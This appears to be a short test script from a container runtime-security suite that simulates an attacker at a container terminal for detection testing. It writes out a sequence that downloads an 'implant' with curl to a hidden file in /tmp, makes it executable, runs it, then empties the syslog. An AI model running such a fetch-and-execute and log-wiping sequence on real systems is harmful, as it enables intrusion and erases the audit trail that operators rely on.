#!/bin/sh
# malicious: an attacker at the runtime tty: fetches and runs a payload, then empties the syslog (same lineage, a download before)
# container
. "$(dirname "$0")/../../lib.sh"
ctr_tty <<'CMDS'
id
curl -s -o /tmp/.x http://127.0.0.1:8080/implant
chmod +x /tmp/.x
/tmp/.x
: > /var/log/syslog
exit
CMDS
